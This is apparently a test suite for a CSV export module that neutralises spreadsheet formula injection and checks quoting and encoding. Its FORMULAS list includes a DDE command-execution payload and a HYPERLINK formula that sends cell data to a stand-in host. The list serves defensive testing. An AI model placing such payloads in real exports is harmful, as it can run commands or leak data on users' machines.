from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from exports.neutral import Encoded, Encoding, cell, neutral, sheet

patient = settings(deadline=None)  # a busy machine is slow, not wrong

FORMULAS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://e/?"&A1,"x")',
    "=",
    "-",
    " =1",
    "   +1",
    "\u00a0=1",  # no-break space
    "\u3000=1",  # full-width space
    " \u00a0\u3000-1",
    "\u200b=1",  # zero width space
    "\u200c\u200d=1",
    "\u2060=1",
    "\ufeff=1",  # byte order mark
    "\u00ad=1",  # soft hyphen
    "\u202e=1",  # right-to-left override
    "\t=1",
    "\r=1",
    "\n=1",
    "\r\n=1",
    "\tabc",
    "\nabc",
    " \t=1",
    "\x00=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "−1",  # U+2212, which CP932 turns into －
    "﹦1",
    "﹢1",
    ";=1",
    ",=1",
    "|=1",
    '"=1"',
    "'=1",
    "''=1",
    "\u3000＝HYPERLINK",
    "非該当",
    "'非該当",
]
HARMLESS = [
    "",
    " ",
    "1=1",
    "a-b",
    "公園",
    "ー",  # long vowel mark
    "―",
    "・",
    "'90年代",
    "「=」の意味",
    "(=1)",
    "03-1234-5678",
    "10%",
    "#",
    "非該当です",
    "\u200b",
    '"引用"',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_might_run_gets_an_apostrophe(text: str) -> None:
    assert neutral(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_words_stay_as_typed(text: str) -> None:
    assert neutral(text) == text


def original(cell: str) -> str:
    """What a cell stands for, by the rule in the module's docstring."""
    return cell[1:] if cell.startswith("'") and neutral(cell[1:]) == cell else cell


@patient
@given(st.one_of(st.text(), st.text(alphabet="'=\t \u3000＝a非該当\"", max_size=6)))
def test_the_apostrophe_is_undone_without_doubt(text: str) -> None:
    assert original(neutral(text)) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("一行目\n二行目", "一行目 二行目"),
        ("a\r\nb", "a b"),
        ("a\n\n\nb", "a b"),
        ("a\u2028b\x0bc\x85d", "a b c d"),
        ("a\n=1", "a =1"),
        ("\n=1", "' =1"),
    ],
)
def test_a_cell_is_one_line(text: str, expected: str) -> None:
    assert cell(text) == expected


@patient
@given(st.text())
def test_no_cell_has_a_line_break(text: str) -> None:
    assert len(f"{cell(text)}.".splitlines()) == 1


def test_a_sheet_follows_rfc_4180() -> None:
    rows = [("名前", "b"), ('"q"', "1,2"), ("", "x;y"), (" z ", "'")]
    assert sheet(rows, "utf-8") == Encoded(
        '名前,b\r\n"""q""","1,2"\r\n,x;y\r\n z ,\'\r\n'.encode(),
        {},
    )


def test_the_byte_order_mark_comes_once() -> None:
    assert sheet([("a",), ("b",)], "utf-8-sig").data == b"\xef\xbb\xbfa\r\nb\r\n"
    assert sheet([], "utf-8-sig").data == b"\xef\xbb\xbf"


def test_what_cp932_lacks_becomes_a_geta_and_is_counted() -> None:
    encoded = sheet([("𠮷野家と👪と髙﨑①", "café 😀😀")], "cp932")
    assert encoded.data.decode("cp932") == "〓野家と〓と髙﨑①,caf〓 〓〓\r\n"
    assert encoded.replaced == {"é": 1, "👪": 1, "😀": 2, "𠮷": 1}
    assert encoded.count == 5


@patient
@given(
    st.lists(st.lists(st.text(st.characters(codec=None)), min_size=1, max_size=3)),
    st.sampled_from(["utf-8", "utf-8-sig", "cp932"]),
)
def test_no_text_stops_an_export(rows: list[list[str]], encoding: Encoding) -> None:
    """Not even half a surrogate pair; and a `?` in the file was a `?` in the text."""
    encoded = sheet(([cell(text) for text in row] for row in rows), encoding)
    written = encoded.data.decode(encoding)
    typed = "".join(text for row in rows for text in row)
    assert written.count("?") == typed.count("?")
    assert written.count("〓") == typed.count("〓") + encoded.count


@patient
@given(st.lists(st.lists(st.text(), min_size=2, max_size=4)))
def test_cells_come_back_through_a_csv_reader(rows: list[list[str]]) -> None:
    cells = [[cell(text) for text in row] for row in rows]
    text = sheet(cells, "utf-8").data.decode()
    assert list(csv.reader(io.StringIO(text, newline=""), strict=True)) == cells
